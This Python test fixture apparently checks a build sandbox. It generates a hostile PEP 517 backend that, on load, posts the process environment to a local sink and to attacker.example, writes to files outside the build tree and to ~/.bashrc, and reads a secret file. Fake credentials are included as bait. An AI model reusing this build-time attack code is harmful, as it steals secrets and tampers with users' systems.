"""Build code that attacks while it builds, and a server that waits for what it steals."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

LET_THROUGH = '[decisions]\nhigh = "warn"\nmedium = "allow"\n'
"""A policy by which reading the code holds nothing back, so that the sandbox is all there is."""
SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "GITHUB_TOKEN": "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "PLAIN_LOOKING": "https://user:hunter2hunter2@example.org/",
}
PASSWORD = "hunter2"
PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "hostile"\nbackend-path = ["."]\n'

_ATTACK = """
import json, os, sys, urllib.request

def attack(here, port, outside, secret):
    done = {"environ": dict(os.environ), "did": []}
    def attempt(name, action):
        try:
            action()
            done["did"].append(name)
        except Exception as error:
            done[name] = repr(error)
    body = json.dumps(dict(os.environ)).encode()
    def post(url):
        urllib.request.urlopen(url, body, 5).read()
    attempt("post", lambda: post("http://127.0.0.1:%d/" % port))
    attempt("post by name", lambda: post("http://localhost:%d/" % port))
    attempt("post elsewhere", lambda: post("http://attacker.example/collect"))
    def write(path):
        with open(path, "a") as file:
            file.write("evil")
    for path in outside:
        attempt("write " + path, lambda: write(path))
    attempt("read", lambda: done.update(secret=open(secret).read()))
    attempt("write home", lambda: write(os.path.expanduser("~/.bashrc")))
    path = os.path.join(here, "seen.json")
    seen = json.load(open(path)) if os.path.exists(path) else []
    with open(path, "w") as file:
        json.dump([*seen, done], file)
"""


class Sink:
    """A server of this machine that takes what is posted to it."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        sink = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                sink.received.append(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_port
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        """Stop."""
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


def attack_code(sink: Sink, outside: list[Path], secret: Path) -> str:
    """Return code that tries everything and keeps what came of it in ``seen.json`` beside itself.

    Args:
        sink: Where it posts its environment.
        outside: Files that it tries to write.
        secret: A file that it tries to read.
    """
    arguments = f"{sink.port}, {[str(path) for path in outside]!r}, {str(secret)!r}"
    return f"{_ATTACK}attack(os.path.dirname(os.path.abspath(__file__)), {arguments})\n"


def backend_files(sink: Sink, outside: list[Path], secret: Path) -> dict[str, str]:
    """Return the files of a tree whose PEP 517 backend attacks when it is loaded, and then builds."""
    code = attack_code(sink, outside, secret)
    return {"hostile.py": code + "from _test_backend import *\n", "demo.py": "", "seen.json": "[]"}
